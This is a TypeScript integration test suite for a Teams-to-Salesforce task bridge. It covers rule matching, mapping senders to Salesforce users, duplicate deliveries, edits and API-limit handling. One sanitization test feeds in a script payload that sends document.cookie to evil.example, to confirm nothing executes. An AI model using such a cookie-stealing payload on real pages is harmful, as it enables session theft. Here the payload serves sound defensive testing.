import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import request from 'supertest';
import type { RunningService } from '../../src/main.ts';
import { testDatabase, type TestDatabase } from '../helpers/postgres.ts';
import {
  DEAL_DESK,
  SALES_TEAM,
  USERS,
  counter,
  post,
  serviceConfig,
  sleep,
  start,
  startStandIns,
  subscribe,
  tasks,
  tasksFor,
  throttleForTest,
  waitFor,
  type Stands,
} from '../helpers/stack.ts';

// A message posted in Teams, through the Graph stand-in's notification, the webhook, the queue and the
// worker, to Tasks in the Salesforce stand-in.

let stands: Stands;
let db: TestDatabase;
let service: RunningService;

before(async () => {
  [stands, db] = await Promise.all([startStandIns(), testDatabase()]);
  // The production batching delay, so a burst shares calls as it would in service.
  service = await start(serviceConfig(stands, db.url, { TASK_FLUSH_DELAY_MS: '250' }));
  await subscribe(service);
});
after(async () => {
  await service?.close();
  await stands?.close();
  await db?.close();
});

const jobsDone = (outcome: string) => counter(service.context.metrics.jobsDone, { outcome });

test('a matching message becomes one Task per rule with every field set', async () => {
  const id = post(stands, USERS.alex, '<p>Can we get a <b>discount</b>? Globex offered one.</p>');
  const byRule = await waitFor('two Tasks', () => {
    const t = tasksFor(stands, id);
    return t.Deal_Desk_Keywords!.length === 1 && t.Competitor_Mentions!.length === 1 && t;
  });
  const deal = byRule.Deal_Desk_Keywords![0]!;
  const flag = byRule.Competitor_Mentions![0]!;
  assert.equal(deal.WhatId, stands.opportunityId);
  assert.equal(deal.Status, 'Not Started');
  assert.equal(deal.Priority, 'High');
  assert.match(deal.Subject, /discount/);
  assert.match(deal.Description, /^From: Alex Wilber <alex@contoso\.example>/);
  assert.match(deal.Description, /Channel: Sales \/ Deal Desk/);
  assert.match(deal.Description, /Can we get a discount\? Globex offered one\.$/);
  assert.match(deal.ActivityDate, /^\d{4}-\d{2}-\d{2}$/);
  assert.match(deal.Teams_Message_Url__c ?? '', /^https:\/\/teams\.microsoft\.com\//);
  assert.equal(flag.Priority, 'Low');
  assert.match(flag.Subject, /^Flag: /);

  // Alex has no mapping yet: matched by email against active users and saved as an Auto mapping.
  const alexUser = stands.sf.control.query("SELECT Id FROM User WHERE Username = 'alex@contoso.example'")
    .records[0];
  assert.equal(deal.OwnerId, alexUser?.Id);
  const mapping = stands.sf.control.query(
    `SELECT User__c, Status__c, Email__c FROM Teams_User_Mapping__c WHERE Entra_Object_Id__c = '${USERS.alex}'`,
  ).records[0];
  assert.equal(mapping?.Status__c, 'Auto');
  assert.equal(mapping?.User__c, alexUser?.Id);
});

test('a sender with no active Salesforce user: Task to the record owner, sender recorded as Unmapped', async () => {
  // Lee Gu's Salesforce user is inactive.
  const id = post(stands, USERS.lee, 'Legal review needed on the MSA redline');
  const [task] = await waitFor(
    'a Task',
    () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1 && tasksFor(stands, id).Deal_Desk_Keywords,
  );
  assert.equal(task!.OwnerId, stands.opportunityOwnerId);
  const mapping = stands.sf.control.query(
    `SELECT User__c, Status__c, User_Principal_Name__c FROM Teams_User_Mapping__c WHERE Entra_Object_Id__c = '${USERS.lee}'`,
  ).records[0];
  assert.equal(mapping?.Status__c, 'Unmapped');
  assert.equal(mapping?.User__c ?? null, null);
  assert.equal(mapping?.User_Principal_Name__c, 'lee@contoso.example');
});

test('a manual mapping wins over the email match', async () => {
  const megan = stands.sf.control.query("SELECT Id FROM User WHERE Username = 'megan@contoso.example'")
    .records[0]!;
  const admin = stands.sf.control.query("SELECT Id FROM User WHERE Username = 'admin@teams-bridge.example'")
    .records[0]!;
  stands.sf.control.seed('Teams_User_Mapping__c', {
    Name: 'Megan Bowen',
    Entra_Object_Id__c: USERS.megan,
    User__c: admin.Id,
    Status__c: 'Manual',
  });
  const id = post(stands, USERS.megan, 'pricing exception for this deal');
  const [task] = await waitFor(
    'a Task',
    () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1 && tasksFor(stands, id).Deal_Desk_Keywords,
  );
  assert.equal(task!.OwnerId, admin.Id);
  assert.notEqual(task!.OwnerId, megan.Id);
});

test('HTML with script tags: nothing executed, no markup kept', async () => {
  const id = post(
    stands,
    USERS.alex,
    '<div>Deal desk please<script>document.location="https://evil.example/?c="+document.cookie</script>' +
      '<style>p{display:none}</style> &amp; approve the <a href="https://contoso.example/q/1">discount</a></div>',
  );
  const [task] = await waitFor(
    'a Task',
    () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1 && tasksFor(stands, id).Deal_Desk_Keywords,
  );
  assert.doesNotMatch(task!.Description, /<|script|evil|cookie|display:none/);
  assert.match(
    task!.Description,
    /Deal desk please & approve the discount \(https:\/\/contoso\.example\/q\/1\)$/,
  );
});

test('messages without a matching rule, and edits, create nothing more', async () => {
  const before = tasks(stands).length;
  const doneBefore = await jobsDone('no-match');
  post(stands, USERS.alex, 'Lunch at noon?');
  await waitFor('the job', async () => (await jobsDone('no-match')) > doneBefore);
  assert.equal(tasks(stands).length, before);
});

test('an edited message that now matches gets its Task; editing again does not add another', async () => {
  const id = post(stands, USERS.alex, 'first draft');
  await sleep(300);
  stands.graph.control.editMessage({
    teamId: SALES_TEAM,
    channelId: DEAL_DESK,
    messageId: id,
    content: 'we need a discount',
  });
  await waitFor('a Task', () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1);
  stands.graph.control.editMessage({
    teamId: SALES_TEAM,
    channelId: DEAL_DESK,
    messageId: id,
    content: 'we need a bigger discount',
  });
  const dupBefore = await jobsDone('duplicate');
  await waitFor('the edit job', async () => (await jobsDone('duplicate')) > dupBefore);
  assert.equal(tasksFor(stands, id).Deal_Desk_Keywords!.length, 1);
});

test('replies in a thread are processed like messages', async () => {
  const parent = post(stands, USERS.alex, 'Thread about renewal');
  const reply = post(stands, USERS.alex, 'procurement wants the MSA', { replyToId: parent });
  await waitFor('a Task for the reply', () => tasksFor(stands, reply).Deal_Desk_Keywords!.length === 1);
});

test('a channel with no active link: skipped, counted, no Task', async () => {
  const channel = stands.graph.control.addChannel({ teamId: SALES_TEAM, displayName: 'Random' });
  await subscribe(service, { channelId: channel.id });
  const before = tasks(stands).length;
  const unknownBefore = await jobsDone('unknown-channel');
  stands.graph.control.postMessage({
    teamId: SALES_TEAM,
    channelId: channel.id,
    from: USERS.alex,
    content: 'discount!',
  });
  await waitFor('the job', async () => (await jobsDone('unknown-channel')) > unknownBefore);
  assert.equal(tasks(stands).length, before);
});

test('duplicate deliveries of one notification create one Task', async () => {
  stands.graph.control.setFaults({ duplicateNextNotifications: 1 });
  const id = post(stands, USERS.alex, 'redline attached');
  await stands.graph.control.waitForDeliveries({ count: 1, outcome: 'delivered' });
  await waitFor('a Task', () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1);
  const delivered = stands.graph.control
    .deliveries({ kind: 'change', outcome: 'delivered' })
    .filter((d) => JSON.stringify(d.body).includes(id));
  assert.ok(delivered.length >= 2, `Graph delivered the notification ${delivered.length} times`);

  // The same body replayed to the webhook three more times, concurrently: the message is settled, so the
  // replays are answered from PostgreSQL without fetching it from Graph again.
  const body = delivered[0]!.body!;
  const dupBefore = await jobsDone('duplicate');
  const fetches = () =>
    stands.graph.control.requests({ method: 'GET', pathContains: `/messages/${id}` }).length;
  const fetchesBefore = fetches();
  assert.ok(fetchesBefore >= 1, 'the first delivery fetched the message');
  const answers = await Promise.all(
    [1, 2, 3].map(() => request(service.url).post('/graph/notifications').send(body)),
  );
  assert.deepEqual(
    answers.map((a) => a.status),
    [202, 202, 202],
  );
  await waitFor('replayed jobs', async () => (await jobsDone('duplicate')) >= dupBefore + 3);
  assert.equal(tasksFor(stands, id).Deal_Desk_Keywords!.length, 1);
  assert.equal(fetches(), fetchesBefore, 'a replay of a settled message fetched it again');
});

test('above 80 % of the daily API allocation only critical rules run; the others come when usage falls', async () => {
  stands.sf.control.setLimits({ dailyApiRequests: 100_000, used: 85_000 });
  await service.context.salesforce.query('SELECT Id FROM User LIMIT 1');
  assert.equal(service.context.salesforce.limits.criticalOnly, true);
  const id = post(stands, USERS.alex, 'Globex wants a discount');
  await waitFor('the deal desk Task', () => tasksFor(stands, id).Deal_Desk_Keywords!.length === 1);
  await sleep(300);
  assert.equal(tasksFor(stands, id).Competitor_Mentions!.length, 0, 'competitor flag paused');
  stands.sf.control.setLimits({ used: 10 });
  await service.context.salesforce.query('SELECT Id FROM User LIMIT 1');
  assert.equal(service.context.salesforce.limits.criticalOnly, false);
  // Deferred, not skipped: once usage falls the parked message is evaluated again, the flag comes, once.
  await waitFor('the deferred competitor Task', () => tasksFor(stands, id).Competitor_Mentions!.length === 1);
  await sleep(300);
  assert.equal(tasksFor(stands, id).Deal_Desk_Keywords!.length, 1, 'the critical Task is not doubled');
  const usage = await counter(service.context.metrics.salesforceApiUsage, { kind: 'limit' });
  assert.equal(usage, 100_000);
});

// Microsoft's Teams service limits, as the Graph stand-in enforces them by default: 4 requests a second per
// app on one channel, 20 single channel-message reads a second per app.
test('a burst in one channel over Graph read limits: throttled reads retried, every Task once, no dead letter', async () => {
  const since = new Date().toISOString();
  const deadBefore = await counter(service.context.metrics.jobsDead);
  const ids = Array.from({ length: 12 }, (_, i) => post(stands, USERS.alex, `discount request ${i}`));
  await waitFor(
    '12 Tasks',
    () => ids.every((id) => tasksFor(stands, id, ['Deal_Desk_Keywords']).Deal_Desk_Keywords!.length >= 1),
    30_000,
  );
  const reads = stands.graph.control.requests({ method: 'GET', pathContains: '/messages/', since });
  const throttled = reads.filter((r) => r.status === 429).length;
  assert.ok(
    throttled > 0,
    `the stand-in held the burst to Graph's limits (${reads.length} reads, none throttled)`,
  );
  for (const id of ids)
    assert.equal(tasksFor(stands, id, ['Deal_Desk_Keywords']).Deal_Desk_Keywords!.length, 1);
  assert.equal(await counter(service.context.metrics.jobsDead), deadBefore, 'no dead letter');
});

test('a burst of messages shares sObject Collections calls', async (t) => {
  // Many jobs at once, as rich notifications or several channels give them: Graph's read limits on one
  // channel are lifted here (the test before runs a burst under them).
  throttleForTest(t, stands, { readPerChannelPerSecond: 0, getMessagePerAppPerSecond: 0 });
  stands.sf.control.clearRequests();
  const ids = Array.from({ length: 60 }, (_, i) => post(stands, USERS.alex, `discount request ${i}`));
  await waitFor(
    '60 Tasks',
    () => ids.every((id) => tasksFor(stands, id, ['Deal_Desk_Keywords']).Deal_Desk_Keywords!.length === 1),
    20_000,
  );
  const calls = stands.sf.control.requests().filter((r) => r.apiCall);
  const upserts = calls.filter((r) => r.path.endsWith('/composite/sobjects'));
  // Tasks trickle in as fast as the Graph stand-in serves the messages; each call still carries many.
  assert.ok(upserts.length <= 10, `${upserts.length} upsert calls for 60 Tasks`);
  assert.ok(calls.length / 60 <= 0.2, `${calls.length} Salesforce API calls for 60 Tasks`);
});
